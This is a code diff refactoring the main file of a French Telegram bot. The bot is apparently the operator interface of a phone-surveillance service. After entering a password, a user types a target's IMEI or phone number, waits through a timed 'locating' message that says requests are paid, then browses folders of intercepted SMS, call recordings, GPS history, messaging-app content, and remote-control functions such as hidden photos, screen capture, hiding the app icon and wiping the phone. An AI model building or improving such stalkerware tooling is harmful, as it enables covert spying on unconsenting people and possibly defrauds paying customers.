@@ -1,26 +1,40 @@
 # main.py
 import os
 import logging
-from datetime import datetime
+from datetime import datetime, timedelta
 import asyncio
-from telegram import Update, ReplyKeyboardMarkup, ReplyKeyboardRemove
+from telegram import Update, InlineKeyboardButton, InlineKeyboardMarkup
 from telegram.ext import (
     ApplicationBuilder,
     CommandHandler,
+    CallbackQueryHandler,
     MessageHandler,
     ContextTypes,
     ConversationHandler,
     filters
 )
 import database
+import async_db
+import activity_log
 import file_manager
-import report_generator
-from config import BOT_TOKEN, BOT_PASSWORD, ADMIN_IDS, DATA_PATH, DB_NAME
-import telegram.error
+import file_browser
+import menus
+import ordering
+import persistence
+import report_cache
+import report_jobs
+import sender
+import storage_usage
+import telegram_files
+import trash
+import uploads
+import validation
+import webhook
+from config import BOT_TOKEN, BOT_PASSWORD, ADMIN_IDS, DATA_PATH, DB_NAME, DASHBOARD_PAGE_SIZE, MAX_UPLOAD_SIZE, CONCURRENT_UPDATES, BOT_MODE, STORAGE_RECONCILE_INTERVAL, WEBHOOK_MAX_PENDING
 import time
 
-# Initialisation de la base de données
-database.init_db(DB_NAME)
+# Nombre de cibles affichées dans le classement de l'espace utilisé
+STATS_TOP_DEVICES = 5
 
 # Configuration des états de conversation
 PASSWORD, MAIN_MENU, CATEGORY_SELECTION, SUBCATEGORY_SELECTION, FILE_OPERATION, WAITING = range(6)
@@ -32,140 +46,12 @@ logging.basicConfig(
 )
 logger = logging.getLogger(__name__)
 
-# Structure complète du menu
-MENU_STRUCTURE = {
-    "📱 SMS/MMS": {
-        "folder": "sms_mms",
-        "submenu": [
-            "Suivi des SMS et MMS",
-            "Alerte SMS"
-        ]
-    },
-    "📞 Appels": {
-        "folder": "appels",
-        "submenu": [
-            "Suivi des journaux d'appels",
-            "Enregistrement des appels",
-            "Blocage des appels"
-        ]
-    },
-    "📍 Localisation": {
-        "folder": "localisations",
-        "submenu": [
-            "Historique des positions GPS",
-            "Suivi en temps réel"
-        ]
-    },
-    "🖼️ Photos & Vidéos": {
-        "folder": "photos",
-        "submenu": [
-            "Visualiser les photos et images"
-        ]
-    },
-    "💬 Messagerie instantanée": {
-        "folder": "messageries",
-        "submenu": [
-            "WhatsApp", "Facebook Messenger", "Skype", "Hangouts", "LINE",
-            "Kik", "Viber", "Gmail", "Tango", "Snapchat", "Telegram"
-        ]
-    },
-    "🎙️ Contrôle à distance": {
-        "folder": "controle_distance",
-        "submenu": [
-            "Enregistrement audio",
-            "Prendre une photo",
-            "Commande SMS",
-            "Faire vibrer/sonner",
-            "Envoyer message vocal",
-            "Envoyer popup texte",
-            "Envoyer SMS externe",
-            "Position GPS",
-            "Capture d'écran",
-            "Récupérer données",
-            "Info téléphone",
-            "Cacher/Voir icône",
-            "Activer/Désactiver Wi-Fi",
-            "Redémarrer téléphone",
-            "Formater téléphone",
-            "Bloquer téléphone"
-        ]
-    },
-    "📺 Visualisation en direct": {
-        "folder": "visualisation_directe",
-        "submenu": [
-            "Audio/Vidéo/Screen"
-        ]
-    },
-    "📁 Gestionnaire de fichiers": {
-        "folder": "fichiers",
-        "submenu": [
-            "Explorateur de fichiers"
-        ]
-    },
-    "⏱ Restriction d'horaire": {
-        "folder": "restrictions",
-        "submenu": [
-            "Restreindre utilisation"
-        ]
-    },
-    "📱 Applications": {
-        "folder": "applications",
-        "submenu": [
-            "Suivi applications installées",
-            "Blocage des applications"
-        ]
-    },
-    "🌐 Sites Web": {
-        "folder": "sites_web",
-        "submenu": [
-            "Historique des sites",
-            "Blocage des sites"
-        ]
-    },
-    "📅 Calendrier": {
-        "folder": "calendrier",
-        "submenu": [
-            "Historique des événements"
-        ]
-    },
-    "👤 Contacts": {
-        "folder": "contacts",
-        "submenu": [
-            "Suivi des nouveaux contacts"
-        ]
-    },
-    "📊 Outils d'analyse": {
-        "folder": "analyse",
-        "submenu": [
-            "Statistiques",
-            "Rapport PDF/Excel/CSV"
-        ]
-    }
-}
-
-# Claviers réutilisables
-def get_main_category_keyboard():
-    return [
-        ["📱 SMS/MMS", "📞 Appels", "📍 Localisation"],
-        ["🖼️ Photos & Vidéos", "💬 Messagerie instantanée", "🎙️ Contrôle à distance"],
-        ["📺 Visualisation en direct", "📁 Gestionnaire de fichiers", "⏱ Restriction d'horaire"],
-        ["📱 Applications", "🌐 Sites Web", "📅 Calendrier"],
-        ["👤 Contacts", "📊 Outils d'analyse", "📋 Retour"]
-    ]
-
-def get_admin_keyboard():
-    return [
-        ["📋 Liste des cibles", "🗑️ Supprimer une cible"],
-        ["📈 Statistiques", "📤 Exporter les logs"],
-        ["📊 Tableau de bord", "⬅️ Retour au menu principal"]
-    ]
-
 async def return_to_categories(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Fonction utilitaire pour retourner au menu des catégories"""
     device_id = context.user_data.get('current_device')
-    keyboard = get_main_category_keyboard()
-    reply_markup = ReplyKeyboardMarkup(keyboard, resize_keyboard=True)
-    await update.message.reply_text(
+    reply_markup = menus.MAIN_MENU_MARKUP
+    await sender.reply(
+        update,
         f"Retour au menu des catégories pour {device_id}:",
         reply_markup=reply_markup
     )
@@ -174,9 +60,10 @@ async def return_to_categories(update: Update, context: ContextTypes.DEFAULT_TYP
 async def start(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Démarre ou réinitialise la conversation"""
     context.user_data.clear()
-    await update.message.reply_text(
+    await sender.reply(
+        update,
         "🔒 Veuillez entrer le mot de passe pour accéder au bot.",
-        reply_markup=ReplyKeyboardRemove()
+        reply_markup=menus.REMOVE_KEYBOARD
     )
     return PASSWORD
 
@@ -184,23 +71,17 @@ async def handle_password(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Vérifie le mot de passe"""
     user_input = update.message.text.strip()
     if user_input == BOT_PASSWORD:
-        for attempt in range(3):  # Retry up to 3 times
-            try:
-                await update.message.reply_text(
-                    "✅ Mot de passe correct.\n"
-                    "🔍 Entrez un IMEI, numéro de série (SN) ou numéro de téléphone (format international) pour commencer.",
-                    reply_markup=ReplyKeyboardRemove()
-                )
-                return MAIN_MENU
-            except telegram.error.TimedOut:
-                logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                await asyncio.sleep(2)  # Wait before retrying
-        await update.message.reply_text(
-            "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-        )
-        return ConversationHandler.END
+        if await sender.reply(
+            update,
+            "✅ Mot de passe correct.\n"
+            "🔍 Entrez un IMEI, numéro de série (SN) ou numéro de téléphone (format international) pour commencer.",
+            reply_markup=menus.REMOVE_KEYBOARD
+        ) is None:
+            return ConversationHandler.END
+        return MAIN_MENU
     else:
-        await update.message.reply_text(
+        await sender.reply(
+            update,
             "❌ Mot de passe incorrect. Veuillez réessayer ou utiliser /cancel pour annuler."
         )
         return PASSWORD
@@ -217,34 +98,27 @@ async def handle_device_id(update: Update, context: ContextTypes.DEFAULT_TYPE):
         
         if file_manager.validate_device_id(user_input):
             # Enregistrer la requête utilisateur
-            database.log_user_request(DB_NAME, user_id, user_input)
+            await async_db.log_user_request(DB_NAME, user_id, user_input)
             
             # Vérifier si le dossier existe déjà
-            if user_input in file_manager.list_devices(DATA_PATH):
+            if file_manager.device_exists(user_input):
                 context.user_data['current_device'] = user_input
-                keyboard = get_main_category_keyboard()
-                reply_markup = ReplyKeyboardMarkup(keyboard, resize_keyboard=True)
-                for attempt in range(3):
-                    try:
-                        await update.message.reply_text(
-                            f"✅ Accès direct au dossier existant : {user_input}\nSélectionnez une catégorie :",
-                            reply_markup=reply_markup
-                        )
-                        return CATEGORY_SELECTION
-                    except telegram.error.TimedOut:
-                        logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                        await asyncio.sleep(2)
-                await update.message.reply_text(
-                    "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-                )
-                return ConversationHandler.END
+                reply_markup = menus.MAIN_MENU_MARKUP
+                if await sender.reply(
+                    update,
+                    f"✅ Accès direct au dossier existant : {user_input}\nSélectionnez une catégorie :",
+                    reply_markup=reply_markup
+                ) is None:
+                    return ConversationHandler.END
+                return CATEGORY_SELECTION
             
             # Créer le dossier si nécessaire
             try:
                 device_path = file_manager.create_device_folder(user_input)
             except PermissionError as e:
                 logger.error(f"Erreur de permission lors de la création du dossier: {str(e)}")
-                await update.message.reply_text(
+                await sender.reply(
+                    update,
                     "❌ Erreur de permission lors de la création du dossier. Contactez l'administrateur."
                 )
                 return ConversationHandler.END
@@ -252,28 +126,23 @@ async def handle_device_id(update: Update, context: ContextTypes.DEFAULT_TYPE):
             context.user_data['current_device'] = user_input
             
             # Message d'attente
-            for attempt in range(3):
-                try:
-                    waiting_message = await update.message.reply_text(
-                        f"Veuillez patienter le temps que nous localisons le numéro {user_input}... "
-                        "et les requêtes sont payantes, voir l'admin..."
-                    )
-                    break
-                except telegram.error.TimedOut:
-                    logger.warning(f"Timeout lors de l'envoi du message d'attente, tentative {attempt + 1}/3")
-                    await asyncio.sleep(2)
-            else:
-                await update.message.reply_text(
-                    "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-                )
+            waiting_message = await sender.reply(
+                update,
+                f"Veuillez patienter le temps que nous localisons le numéro {user_input}... "
+                "et les requêtes sont payantes, voir l'admin..."
+            )
+            if waiting_message is None:
                 return ConversationHandler.END
             
             # Planifier la fin de l'attente
-            context.job_queue.run_once(
-                callback=end_waiting,
-                when=300,  # 5 minutes
-                data={'device_id': user_input, 'chat_id': update.effective_chat.id},
-                context=context
+            # (enregistrée en base : reprogrammée avec son délai restant après un redémarrage)
+            await persistence.run_once(
+                context.job_queue,
+                end_waiting,
+                300,  # 5 minutes
+                chat_id=update.effective_chat.id,
+                user_id=user_id,
+                data={'device_id': user_input, 'chat_id': update.effective_chat.id}
             )
             
             context.user_data['waiting_message_id'] = waiting_message.message_id
@@ -281,22 +150,15 @@ async def handle_device_id(update: Update, context: ContextTypes.DEFAULT_TYPE):
             
             return WAITING
         else:
-            for attempt in range(3):
-                try:
-                    await update.message.reply_text(
-                        "❌ Format invalide. Veuillez entrer un IMEI (15 chiffres), SN (alphanumérique) ou numéro international (ex: +33612345678)."
-                    )
-                    return MAIN_MENU
-                except telegram.error.TimedOut:
-                    logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                    await asyncio.sleep(2)
-            await update.message.reply_text(
-                "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-            )
-            return ConversationHandler.END
+            if await sender.reply(
+                update,
+                "❌ Format invalide. Veuillez entrer un IMEI (15 chiffres), SN (alphanumérique) ou numéro international (ex: +33612345678)."
+            ) is None:
+                return ConversationHandler.END
+            return MAIN_MENU
     except Exception as e:
         logger.error(f"Erreur dans handle_device_id: {str(e)}")
-        await update.message.reply_text("❌ Erreur critique. Utilisez /start pour réinitialiser.")
+        await sender.reply(update, "❌ Erreur critique. Utilisez /start pour réinitialiser.")
         return ConversationHandler.END
 
 async def end_waiting(context: ContextTypes.DEFAULT_TYPE):
@@ -307,39 +169,22 @@ async def end_waiting(context: ContextTypes.DEFAULT_TYPE):
     
     try:
         # Supprimer le message d'attente
-        for attempt in range(3):
-            try:
-                await context.bot.delete_message(
-                    chat_id=chat_id,
-                    message_id=context.user_data.get('waiting_message_id')
-                )
-                break
-            except telegram.error.TimedOut:
-                logger.warning(f"Timeout lors de la suppression du message, tentative {attempt + 1}/3")
-                await asyncio.sleep(2)
+        await sender.delete_message(context.bot, chat_id, context.user_data.get('waiting_message_id'))
         
         # Ajouter l'appareil à la base de données
-        database.add_device(DB_NAME, device_id, "unknown")
+        await async_db.add_device(DB_NAME, device_id, validation.classify_device_id(device_id))
         
         # Afficher le message de fin
-        keyboard = get_main_category_keyboard()
-        reply_markup = ReplyKeyboardMarkup(keyboard, resize_keyboard=True)
-        for attempt in range(3):
-            try:
-                await context.bot.send_message(
-                    chat_id=chat_id,
-                    text=f"Traitement du n°{device_id} terminé. "
-                         "La disponibilité des données est fonction du volume d’informations traitées, "
-                         "de la disponibilité d’Internet et de l’appareil de la cible.\n"
-                         f"✅ Dossier créé pour : {device_id}\nSélectionnez une catégorie :",
-                    reply_markup=reply_markup
-                )
-                break
-            except telegram.error.TimedOut:
-                logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                await asyncio.sleep(2)
-        else:
-            logger.error("Échec de l'envoi du message de fin après plusieurs tentatives")
+        reply_markup = menus.MAIN_MENU_MARKUP
+        if await sender.send_message(
+            context.bot,
+            chat_id,
+            f"Traitement du n°{device_id} terminé. "
+            "La disponibilité des données est fonction du volume d’informations traitées, "
+            "de la disponibilité d’Internet et de l’appareil de la cible.\n"
+            f"✅ Dossier créé pour : {device_id}\nSélectionnez une catégorie :",
+            reply_markup=reply_markup
+        ) is None:
             return ConversationHandler.END
         
         # Mettre à jour l'état
@@ -350,28 +195,24 @@ async def end_waiting(context: ContextTypes.DEFAULT_TYPE):
         return CATEGORY_SELECTION
     except Exception as e:
         logger.error(f"Erreur dans end_waiting: {str(e)}")
-        await context.bot.send_message(
-            chat_id=chat_id,
-            text="❌ Erreur critique. Utilisez /start pour réinitialiser."
-        )
+        await sender.send_message(context.bot, chat_id, "❌ Erreur critique. Utilisez /start pour réinitialiser.")
         return ConversationHandler.END
+    finally:
+        await persistence.job_done(context)
 
 async def handle_waiting(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Gère les interactions pendant la période d'attente"""
-    for attempt in range(3):
-        try:
-            await update.message.reply_text(
-                "⏳ Veuillez patienter, le traitement est en cours. "
-                "Vous pouvez continuer à interagir avec le bot après la fin du traitement."
-            )
-            return WAITING
-        except telegram.error.TimedOut:
-            logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-            await asyncio.sleep(2)
-    await update.message.reply_text(
-        "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-    )
-    return ConversationHandler.END
+    # Attente terminée par end_waiting (un job ne peut pas changer l'état de la conversation)
+    if context.user_data.get('current_device') and 'waiting_start_time' not in context.user_data:
+        return await handle_category_selection(update, context)
+    
+    if await sender.reply(
+        update,
+        "⏳ Veuillez patienter, le traitement est en cours. "
+        "Vous pouvez continuer à interagir avec le bot après la fin du traitement."
+    ) is None:
+        return ConversationHandler.END
+    return WAITING
 
 async def handle_category_selection(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Gère la sélection de catégorie principale"""
@@ -380,58 +221,44 @@ async def handle_category_selection(update: Update, context: ContextTypes.DEFAUL
         device_id = context.user_data.get('current_device')
         
         if not device_id:
-            await update.message.reply_text("❌ Session expirée. Utilisez /start pour recommencer.")
+            await sender.reply(update, "❌ Session expirée. Utilisez /start pour recommencer.")
             return PASSWORD
         
         # Gestion des commandes admin
-        if category in ["📋 Liste des cibles", "🗑️ Supprimer une cible", "📈 Statistiques", "📤 Exporter les logs", "📊 Tableau de bord"]:
+        if category in menus.ADMIN_BUTTONS:
             return await admin_command(update, context)
-        elif category == "⬅️ Retour au menu principal":
+        elif category == menus.BACK_TO_MAIN:
             return await start(update, context)
         
         # Gestion du retour
         if category == "📋 Retour":
-            await update.message.reply_text(
+            await sender.reply(
+                update,
                 "🔍 Entrez un nouvel identifiant (IMEI, SN ou numéro) :",
-                reply_markup=ReplyKeyboardRemove()
+                reply_markup=menus.REMOVE_KEYBOARD
             )
             return MAIN_MENU
         
         # Vérifier si la catégorie existe dans la structure
-        if category in MENU_STRUCTURE:
+        if category in menus.CATEGORIES:
             context.user_data['current_main_category'] = category
-            main_category = MENU_STRUCTURE[category]
             
-            # Préparer le sous-menu
-            submenu = main_category.get('submenu', [])
-            if submenu:
-                submenu_keyboard = []
-                for i in range(0, len(submenu), 2):
-                    submenu_keyboard.append(submenu[i:i+2])
-                submenu_keyboard.append(["⬅️ Retour aux catégories", "⬅️ Retour au menu principal"])
-                
-                reply_markup = ReplyKeyboardMarkup(submenu_keyboard, resize_keyboard=True)
-                
-                for attempt in range(3):
-                    try:
-                        await update.message.reply_text(
-                            f"🔽 Sous-catégories pour {category} :",
-                            reply_markup=reply_markup
-                        )
-                        return SUBCATEGORY_SELECTION
-                    except telegram.error.TimedOut:
-                        logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                        await asyncio.sleep(2)
-                await update.message.reply_text(
-                    "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-                )
-                return ConversationHandler.END
+            # Sous-menu précompilé
+            _, reply_markup = menus.CATEGORIES[category]
+            if reply_markup:
+                if await sender.reply(
+                    update,
+                    f"🔽 Sous-catégories pour {category} :",
+                    reply_markup=reply_markup
+                ) is None:
+                    return ConversationHandler.END
+                return SUBCATEGORY_SELECTION
             else:
                 return await handle_subcategory_selection(update, context, category, None)
         else:
-            keyboard = get_main_category_keyboard()
-            reply_markup = ReplyKeyboardMarkup(keyboard, resize_keyboard=True)
-            await update.message.reply_text(
+            reply_markup = menus.MAIN_MENU_MARKUP
+            await sender.reply(
+                update,
                 "❌ Catégorie non reconnue. Veuillez choisir une option valide :",
                 reply_markup=reply_markup
             )
@@ -439,7 +266,7 @@ async def handle_category_selection(update: Update, context: ContextTypes.DEFAUL
     
     except Exception as e:
         logger.error(f"Erreur dans handle_category_selection: {str(e)}")
-        await update.message.reply_text("❌ Erreur critique. Utilisez /start pour réinitialiser.")
+        await sender.reply(update, "❌ Erreur critique. Utilisez /start pour réinitialiser.")
         return ConversationHandler.END
 
 async def handle_subcategory_selection(update: Update, context: ContextTypes.DEFAULT_TYPE, subcategory=None):
@@ -452,85 +279,64 @@ async def handle_subcategory_selection(update: Update, context: ContextTypes.DEF
         main_category = context.user_data.get('current_main_category')
         
         if not device_id or not main_category:
-            await update.message.reply_text("❌ Session expirée. Utilisez /start pour recommencer.")
+            await sender.reply(update, "❌ Session expirée. Utilisez /start pour recommencer.")
             return PASSWORD
             
         # Gestion du retour
-        if subcategory == "⬅️ Retour aux catégories":
+        if subcategory == menus.BACK_TO_CATEGORIES:
             return await return_to_categories(update, context)
-        elif subcategory == "⬅️ Retour au menu principal":
+        elif subcategory == menus.BACK_TO_MAIN:
             return await start(update, context)
         
-        # Vérifier si la sous-catégorie est valide
-        main_category_data = MENU_STRUCTURE.get(main_category)
-        if not main_category_data or subcategory not in main_category_data.get('submenu', []):
-            await update.message.reply_text("❌ Sous-catégorie non valide. Veuillez réessayer.")
+        # Vérifier si la sous-catégorie est valide et déterminer le chemin du dossier
+        target = menus.SUBCATEGORIES.get((main_category, subcategory))
+        if not target:
+            await sender.reply(update, "❌ Sous-catégorie non valide. Veuillez réessayer.")
             return SUBCATEGORY_SELECTION
         
-        # Déterminer le chemin du dossier
-        main_folder = main_category_data['folder']
-        subfolder_name = "".join(filter(str.isalnum, subcategory)).lower()[:20]
+        main_folder, subfolder_name = target
         category_path = os.path.join(DATA_PATH, device_id, main_folder, subfolder_name)
         
-        # Créer le dossier de catégorie s'il n'existe pas
-        os.makedirs(category_path, exist_ok=True)
+        # Le dossier n'est créé qu'au premier fichier reçu (uploads.ingest)
         
         # Stocker le chemin complet
         context.user_data['current_category'] = category_path
         context.user_data['current_subcategory'] = subcategory
+        context.user_data.pop('file_search', None)
         
-        # Lister les fichiers disponibles
+        # Lister les fichiers disponibles (explorateur paginé en ligne)
         files = file_manager.list_files(category_path)
         
         if files:
-            file_keyboard = [[f] for f in files]
-            file_keyboard.append(["⬆️ Télécharger un fichier"])
-            file_keyboard.append(["⬅️ Retour aux catégories", "⬅️ Retour au menu principal"])
-            reply_markup = ReplyKeyboardMarkup(file_keyboard, resize_keyboard=True)
+            reply_markup = menus.FOLDER_MARKUP
             
-            for attempt in range(3):
-                try:
-                    await update.message.reply_text(
-                        f"📂 Fichiers disponibles dans {subcategory}:\n"
-                        "Sélectionnez un fichier pour le visualiser ou téléchargez-en un nouveau.",
-                        reply_markup=reply_markup
-                    )
-                    break
-                except telegram.error.TimedOut:
-                    logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                    await asyncio.sleep(2)
-            else:
-                await update.message.reply_text(
-                    "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-                )
+            if await sender.reply(
+                update,
+                f"📂 Fichiers disponibles dans {subcategory}:\n"
+                "Sélectionnez un fichier ci-dessous pour le visualiser, tapez le début d'un nom "
+                "pour rechercher, ou téléchargez-en un nouveau.",
+                reply_markup=reply_markup
+            ) is None:
+                return ConversationHandler.END
+            
+            text, page_markup = file_browser.build_page(category_path, subcategory)
+            if await sender.reply(update, text, reply_markup=page_markup) is None:
                 return ConversationHandler.END
         else:
-            reply_markup = ReplyKeyboardMarkup([
-                ["⬆️ Télécharger un fichier"],
-                ["⬅️ Retour aux catégories", "⬅️ Retour au menu principal"]
-            ], resize_keyboard=True)
-            for attempt in range(3):
-                try:
-                    await update.message.reply_text(
-                        f"ℹ️ Aucun fichier dans {subcategory}.\n"
-                        "Vous pouvez télécharger un fichier avec le bouton ci-dessous.",
-                        reply_markup=reply_markup
-                    )
-                    break
-                except telegram.error.TimedOut:
-                    logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                    await asyncio.sleep(2)
-            else:
-                await update.message.reply_text(
-                    "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-                )
+            reply_markup = menus.FOLDER_MARKUP
+            if await sender.reply(
+                update,
+                f"ℹ️ Aucun fichier dans {subcategory}.\n"
+                "Vous pouvez télécharger un fichier avec le bouton ci-dessous.",
+                reply_markup=reply_markup
+            ) is None:
                 return ConversationHandler.END
         
         return FILE_OPERATION
     
     except Exception as e:
         logger.error(f"Erreur dans handle_subcategory_selection: {str(e)}")
-        await update.message.reply_text("❌ Erreur critique. Utilisez /start pour réinitialiser.")
+        await sender.reply(update, "❌ Erreur critique. Utilisez /start pour réinitialiser.")
         return ConversationHandler.END
 
 async def handle_file_operation(update: Update, context: ContextTypes.DEFAULT_TYPE):
@@ -541,87 +347,65 @@ async def handle_file_operation(update: Update, context: ContextTypes.DEFAULT_TY
         category_path = context.user_data.get('current_category')
         
         if not device_id or not category_path:
-            await update.message.reply_text("❌ Session expirée. Utilisez /start pour recommencer.")
+            await sender.reply(update, "❌ Session expirée. Utilisez /start pour recommencer.")
             return PASSWORD
             
-        if user_choice == "⬅️ Retour aux catégories":
+        if user_choice == menus.BACK_TO_CATEGORIES:
             return await return_to_categories(update, context)
-        elif user_choice == "⬅️ Retour au menu principal":
+        elif user_choice == menus.BACK_TO_MAIN:
             return await start(update, context)
-        elif user_choice == "⬆️ Télécharger un fichier":
-            for attempt in range(3):
-                try:
-                    await update.message.reply_text(
-                        "⬆️ Envoyez le fichier que vous souhaitez télécharger dans cette catégorie.",
-                        reply_markup=ReplyKeyboardMarkup([
-                            ["⬅️ Retour aux catégories", "⬅️ Retour au menu principal"]
-                        ], resize_keyboard=True)
-                    )
-                    return FILE_OPERATION
-                except telegram.error.TimedOut:
-                    logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                    await asyncio.sleep(2)
-            await update.message.reply_text(
-                "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-            )
-            return ConversationHandler.END
+        elif user_choice == menus.UPLOAD_BUTTON:
+            if await sender.reply(
+                update,
+                "⬆️ Envoyez le fichier que vous souhaitez télécharger dans cette catégorie.",
+                reply_markup=menus.UPLOAD_MARKUP
+            ) is None:
+                return ConversationHandler.END
+            return FILE_OPERATION
         
         else:
-            # Traitement de la sélection d'un fichier
+            # Traitement de la sélection d'un fichier (nom exact), sinon recherche par préfixe
             file_path = os.path.join(category_path, user_choice)
             
-            if os.path.isfile(file_path):
+            if user_choice in file_browser.folder_index(category_path).stats:
                 # Journaliser la consultation
-                file_manager.log_activity(DB_NAME, device_id, "CONSULT", file_path)
+                await async_db.log_activity(DB_NAME, device_id, "CONSULT", file_path)
                 
                 # Envoyer le fichier à l'utilisateur
-                for attempt in range(3):
-                    try:
-                        await context.bot.send_document(
-                            chat_id=update.effective_chat.id,
-                            document=open(file_path, 'rb'),
-                            filename=user_choice
-                        )
-                        break
-                    except telegram.error.TimedOut:
-                        logger.warning(f"Timeout lors de l'envoi du fichier, tentative {attempt + 1}/3")
-                        await asyncio.sleep(2)
-                else:
-                    await update.message.reply_text(
-                        "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-                    )
+                if await sender.safe(
+                    telegram_files.send_document,
+                    context.bot,
+                    update.effective_chat.id,
+                    file_path,
+                    filename=user_choice,
+                    chat=update.effective_chat.id,
+                    priority=sender.BULK
+                ) is None:
                     return ConversationHandler.END
                 
                 # Reafficher le menu des fichiers
-                files = file_manager.list_files(category_path)
-                file_keyboard = [[f] for f in files]
-                file_keyboard.append(["⬆️ Télécharger un fichier"])
-                file_keyboard.append(["⬅️ Retour aux catégories", "⬅️ Retour au menu principal"])
-                reply_markup = ReplyKeyboardMarkup(file_keyboard, resize_keyboard=True)
+                reply_markup = menus.FOLDER_MARKUP
                 
-                for attempt in range(3):
-                    try:
-                        await update.message.reply_text(
-                            "Sélectionnez une autre action:",
-                            reply_markup=reply_markup
-                        )
-                        break
-                    except telegram.error.TimedOut:
-                        logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                        await asyncio.sleep(2)
-                else:
-                    await update.message.reply_text(
-                        "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-                    )
+                if await sender.reply(
+                    update,
+                    "Sélectionnez une autre action:",
+                    reply_markup=reply_markup
+                ) is None:
                     return ConversationHandler.END
             else:
-                await update.message.reply_text("❌ Fichier introuvable. Veuillez choisir un fichier valide.")
+                context.user_data['file_search'] = user_choice
+                text, reply_markup = file_browser.build_page(
+                    category_path, context.user_data.get('current_subcategory', ''), prefix=user_choice
+                )
+                if reply_markup is None:
+                    text += "\nTapez un autre début de nom ou choisissez une action."
+                await sender.reply(update, text, reply_markup=reply_markup)
             
             return FILE_OPERATION
     
     except Exception as e:
         logger.error(f"Erreur dans handle_file_operation: {str(e)}")
-        await update.message.reply_text("❌ Erreur critique. Utilisez /start pour réinitialiser.")
+        await sender.reply(update, "❌ Erreur critique. Utilisez /start pour réinitialiser.")
         return ConversationHandler.END
 
 async def handle_file_upload(update: Update, context: ContextTypes.DEFAULT_TYPE):
@@ -631,272 +415,451 @@ async def handle_file_upload(update: Update, context: ContextTypes.DEFAULT_TYPE)
         category_path = context.user_data.get('current_category')
         
         if not device_id or not category_path:
-            await update.message.reply_text("❌ Session expirée. Utilisez /start pour recommencer.")
+            await sender.reply(update, "❌ Session expirée. Utilisez /start pour recommencer.")
             return PASSWORD
             
-        if update.message.document:
-            file = await context.bot.get_file(update.message.document.file_id)
-            file_name = update.message.document.file_name
+        document = update.message.document
+        if document:
+            if document.file_size and document.file_size > MAX_UPLOAD_SIZE:
+                await sender.reply(
+                    update,
+                    f"❌ Fichier trop volumineux (maximum {MAX_UPLOAD_SIZE // (1024 * 1024)} Mo)."
+                )
+                return FILE_OPERATION
             
-            # Sauvegarder le fichier
-            file_path = os.path.join(category_path, file_name)
-            await file.download_to_drive(file_path)
+            # Quotas vérifiés avant le téléchargement (taille annoncée par Telegram)
+            try:
+                storage_usage.check_quota(device_id, document.file_size or 0)
+            except storage_usage.QuotaExceeded as e:
+                await sender.reply(update, f"❌ Fichier refusé : {e}.")
+                return FILE_OPERATION
             
-            # Journaliser l'upload
-            file_manager.log_activity(DB_NAME, device_id, "UPLOAD", file_path)
+            file = await sender.call(context.bot.get_file, document.file_id, chat=update.effective_chat.id)
             
-            for attempt in range(3):
-                try:
-                    await update.message.reply_text(f"✅ Fichier {file_name} téléchargé avec succès.")
-                    break
-                except telegram.error.TimedOut:
-                    logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                    await asyncio.sleep(2)
-            else:
-                await update.message.reply_text(
-                    "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
+            # Sauvegarder le fichier (téléchargement par blocs puis renommage atomique)
+            try:
+                file_path, _, size = await uploads.ingest(
+                    file, category_path, document.file_name, expected_size=document.file_size
+                )
+            except uploads.UploadTooLarge:
+                await sender.reply(
+                    update,
+                    f"❌ Fichier trop volumineux (maximum {MAX_UPLOAD_SIZE // (1024 * 1024)} Mo)."
                 )
+                return FILE_OPERATION
+            file_name = os.path.basename(file_path)
+            file_manager.add_listed_file(category_path, file_name)
+            await storage_usage.record(file_path, size)
+            
+            # Journaliser l'upload
+            await async_db.log_activity(DB_NAME, device_id, "UPLOAD", file_path)
+            
+            if await sender.reply(update, f"✅ Fichier {file_name} téléchargé avec succès.") is None:
                 return ConversationHandler.END
             
             # RETOUR AUTOMATIQUE AUX CATÉGORIES APRÈS TÉLÉCHARGEMENT
             return await return_to_categories(update, context)
         
-        await update.message.reply_text("❌ Format de fichier non reconnu. Veuillez envoyer un document.")
+        await sender.reply(update, "❌ Format de fichier non reconnu. Veuillez envoyer un document.")
         return FILE_OPERATION
     
     except Exception as e:
         logger.error(f"Erreur dans handle_file_upload: {str(e)}")
-        await update.message.reply_text("❌ Erreur critique. Utilisez /start pour réinitialiser.")
+        await sender.reply(update, "❌ Erreur critique. Utilisez /start pour réinitialiser.")
         return ConversationHandler.END
 
 async def admin_command(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Affiche le panel d'administration"""
     user_id = update.effective_user.id
     if user_id not in ADMIN_IDS:
-        await update.message.reply_text("❌ Accès refusé.")
+        await sender.reply(update, "❌ Accès refusé.")
         return ConversationHandler.END
     
-    keyboard = get_admin_keyboard()
